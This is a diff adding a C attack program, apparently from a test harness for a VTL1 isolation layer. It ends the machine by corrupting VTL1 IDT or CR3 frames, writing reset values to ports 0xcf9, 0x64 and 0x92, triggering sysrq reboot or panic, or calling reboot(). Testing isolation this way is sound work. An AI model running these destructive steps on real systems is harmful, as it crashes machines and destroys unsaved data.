@@ -1,0 +1,62 @@
+// SPDX-License-Identifier: BSD-2-Clause
+/*
+ * attack-destroy WAY: ends the machine. The CPU's machinery on a frame of VTL1's (idt, cr3), or one
+ * of the doors through which software resets a PC: ports 0xcf9, 0x64, 0x92; Linux's emergency
+ * restart (sysrq), its orderly one (reboot), its panic (panic).
+ */
+#define _GNU_SOURCE
+#include <errno.h>
+#include <fcntl.h>
+#include <string.h>
+#include <sys/io.h>
+#include <sys/reboot.h>
+#include <unistd.h>
+#include "attacker.h"
+
+static void machinery_away(enum attack_part part)
+{
+    struct frames frames = survey();
+
+    machinery(find_frame(&frames, FRAME_CLOSED, 5), part, false);
+}
+
+static void write_port(uint16_t port, uint8_t value)
+{
+    if (iopl(3))
+        bail("iopl: %s", strerror(errno));
+    outb(value, port);
+    sleep(1);
+}
+
+static void sysrq(char key)
+{
+    int file = open("/proc/sysrq-trigger", O_WRONLY | O_CLOEXEC);
+
+    if (write(file, &key, 1) != 1)
+        bail("sysrq: %s", strerror(errno));
+    sleep(1);
+}
+
+int main(int argc, char **argv)
+{
+    const char *way = argc == 2 ? argv[1] : "";
+
+    attacker_start();
+    if (!strcmp(way, "idt"))
+        machinery_away(ATTACK_IDT_WHOLE);
+    else if (!strcmp(way, "cr3"))
+        machinery_away(ATTACK_CR3);
+    else if (!strcmp(way, "cf9"))
+        write_port(0xcf9, 6);
+    else if (!strcmp(way, "keyboard"))
+        write_port(0x64, 0xfe);
+    else if (!strcmp(way, "port92"))
+        write_port(0x92, 1);
+    else if (!strcmp(way, "sysrq"))
+        sysrq('b');
+    else if (!strcmp(way, "panic"))
+        sysrq('c');
+    else if (!strcmp(way, "reboot"))
+        reboot(RB_AUTOBOOT);
+    bail("the machine lives on");
+}
